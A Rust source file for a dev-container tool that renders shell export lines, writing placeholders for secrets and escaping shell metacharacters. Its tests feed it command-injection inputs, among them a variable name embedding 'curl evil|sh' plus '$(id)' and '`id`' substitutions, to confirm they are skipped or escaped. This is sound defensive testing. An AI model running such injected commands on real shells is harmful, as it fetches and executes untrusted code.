//! Shell env file for dev containers.
//!
//! Containers source this file to get plain `env` variables and one
//! placeholder per secret. Real secret values are never written.

use std::path::Path;

use tracing::{info, warn};

use super::placeholder_for;
use crate::error::Result;
use crate::policy::config::{is_valid_name, Settings};

/// Render `export NAME="value"` lines: `env` entries first, then one
/// placeholder per secret. Names that are not shell variable names are
/// skipped.
pub fn render_env_file(settings: &Settings) -> String {
    let mut out = String::new();
    for (name, value) in &settings.env {
        push_export(&mut out, name, value);
    }
    for name in settings.secrets.keys() {
        push_export(&mut out, name, &placeholder_for(name));
    }
    out
}

/// Write the rendered env file to `path`, creating parent directories.
pub fn write_env_file(settings: &Settings, path: &Path) -> Result<()> {
    if let Some(parent) = path.parent() {
        if !parent.as_os_str().is_empty() {
            std::fs::create_dir_all(parent)?;
        }
    }
    std::fs::write(path, render_env_file(settings))?;
    info!(
        "Wrote {} variable(s) and {} placeholder(s) to {}",
        settings.env.len(),
        settings.secrets.len(),
        path.display()
    );
    Ok(())
}

fn push_export(out: &mut String, name: &str, value: &str) {
    if !is_valid_name(name) {
        warn!("Skipping env file entry with invalid name {:?}", name);
        return;
    }
    out.push_str("export ");
    out.push_str(name);
    out.push_str("=\"");
    for c in value.chars() {
        if matches!(c, '\\' | '"' | '$' | '`') {
            out.push('\\');
        }
        out.push(c);
    }
    out.push_str("\"\n");
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::policy::config::SecretEntry;

    fn secret(value: &str) -> SecretEntry {
        SecretEntry {
            value: value.to_string(),
            hosts: vec![],
        }
    }

    #[test]
    fn placeholders_written_for_each_secret() {
        let mut settings = Settings::default();
        settings.secrets.insert("A".to_string(), secret("va"));
        settings.secrets.insert("B".to_string(), secret("vb"));
        let content = render_env_file(&settings);
        assert_eq!(
            content,
            "export A=\"SANDCAT_PLACEHOLDER_A\"\nexport B=\"SANDCAT_PLACEHOLDER_B\"\n"
        );
        assert!(!content.contains("va"));
        assert!(!content.contains("vb"));
    }

    #[test]
    fn env_vars_come_before_placeholders() {
        let mut settings = Settings::default();
        settings
            .env
            .insert("GIT_USER_NAME".to_string(), "Alice".to_string());
        settings
            .env
            .insert("GIT_USER_EMAIL".to_string(), "alice@example.com".to_string());
        settings.secrets.insert("K".to_string(), secret("v"));
        let content = render_env_file(&settings);
        assert!(content.contains("export GIT_USER_NAME=\"Alice\"\n"));
        assert!(content.contains("export GIT_USER_EMAIL=\"alice@example.com\"\n"));
        assert!(content.ends_with("export K=\"SANDCAT_PLACEHOLDER_K\"\n"));
    }

    #[test]
    fn missing_env_section_starts_with_secrets() {
        let mut settings = Settings::default();
        settings.secrets.insert("K".to_string(), secret("v"));
        assert!(render_env_file(&settings).starts_with("export K="));
    }

    #[test]
    fn empty_settings_render_empty() {
        assert_eq!(render_env_file(&Settings::default()), "");
    }

    #[test]
    fn shell_metacharacters_are_escaped() {
        let mut settings = Settings::default();
        settings
            .env
            .insert("PS1".to_string(), r#"$(whoami) "x" `id` \n"#.to_string());
        assert_eq!(
            render_env_file(&settings),
            "export PS1=\"\\$(whoami) \\\"x\\\" \\`id\\` \\\\n\"\n"
        );
    }

    #[test]
    fn invalid_names_are_skipped() {
        let mut settings = Settings::default();
        settings
            .env
            .insert("X;curl evil|sh;Y".to_string(), "v".to_string());
        settings.secrets.insert("$(id)".to_string(), secret("v"));
        settings.secrets.insert("OK".to_string(), secret("v"));
        assert_eq!(render_env_file(&settings), "export OK=\"SANDCAT_PLACEHOLDER_OK\"\n");
    }

    #[test]
    fn write_creates_parent_dirs() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("nested").join("sandcat.env");
        let mut settings = Settings::default();
        settings.env.insert("EDITOR".to_string(), "vim".to_string());
        write_env_file(&settings, &path).unwrap();
        assert_eq!(
            std::fs::read_to_string(&path).unwrap(),
            "export EDITOR=\"vim\"\n"
        );
    }
}
